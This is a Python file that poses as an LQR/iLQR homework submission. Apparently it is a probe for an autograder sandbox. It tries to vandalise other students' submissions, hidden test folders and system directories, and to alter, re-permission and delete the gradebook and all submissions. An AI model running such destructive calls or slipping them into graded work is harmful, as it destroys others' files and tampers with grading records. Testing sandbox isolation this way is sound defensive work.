"""Overwrites, truncates, deletes, renames and locks away whatever it can name."""

import os
import shutil

CLASS = "/class"


def wrong(*args, **kwargs):
    for folder in (
        CLASS,
        f"{CLASS}/submissions/alice",
        f"{CLASS}/hw2_lqr_ilqr/hidden",
        "/srv",
        "/root",
        "/home",
        "/usr",
        "/etc",
    ):
        for attempt in (
            lambda folder=folder: open(f"{folder}/lqr.py", "w").write("vandal"),
            lambda folder=folder: open(f"{folder}/vandal", "x").close(),
            lambda folder=folder: os.truncate(f"{folder}/lqr.py", 0),
            lambda folder=folder: os.rename(f"{folder}/lqr.py", f"{folder}/lqr.bak"),
            lambda folder=folder: os.unlink(f"{folder}/lqr.py"),
            lambda folder=folder: os.mkfifo(f"{folder}/fifo"),
            lambda folder=folder: os.symlink("/", f"{folder}/link"),
        ):
            try:
                attempt()
            except OSError:
                continue
    for attempt in (
        lambda: open(f"{CLASS}/gradebook.db", "ab").write(b"vandal"),
        lambda: shutil.rmtree(f"{CLASS}/submissions"),
        lambda: os.utime(f"{CLASS}/gradebook.db", (0, 0)),
        lambda: os.chmod(f"{CLASS}/gradebook.db", 0o777),
        lambda: os.chown(f"{CLASS}/gradebook.db", os.getuid(), -1),
        lambda: os.setxattr(f"{CLASS}/gradebook.db", "user.vandal", b"1"),
        lambda: os.chmod(CLASS, 0),
    ):
        try:
            attempt()
        except OSError:
            continue
    return 0.0


action_value = gains = state_value = backward = forward = rollout = wrong
